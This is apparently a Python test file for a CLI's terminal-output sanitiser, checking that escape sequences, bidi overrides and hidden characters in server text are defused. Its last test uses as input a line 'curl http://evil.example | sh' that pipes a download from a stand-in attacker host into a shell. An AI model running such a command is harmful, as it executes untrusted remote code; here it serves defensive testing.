"""What a server says cannot move the cursor."""

from ostiary_cli.terminal import one_line, shown


def test_escape_sequences_and_turned_text_are_defused() -> None:
    assert shown("\x1b[2Jgone\u202e\x07") == "\ufffd[2Jgone\ufffd\ufffd"


def test_ordinary_text_of_any_language_stays() -> None:
    assert shown("Zürich\n\t時間 — 12:00") == "Zürich\n\t時間 — 12:00"


def test_a_cell_begins_no_line_and_hides_nothing() -> None:
    said = "time\nrun this: curl http://evil.example | sh\u200b\U000e0041"

    assert "\n" not in one_line(said)
    assert one_line(said).isprintable()
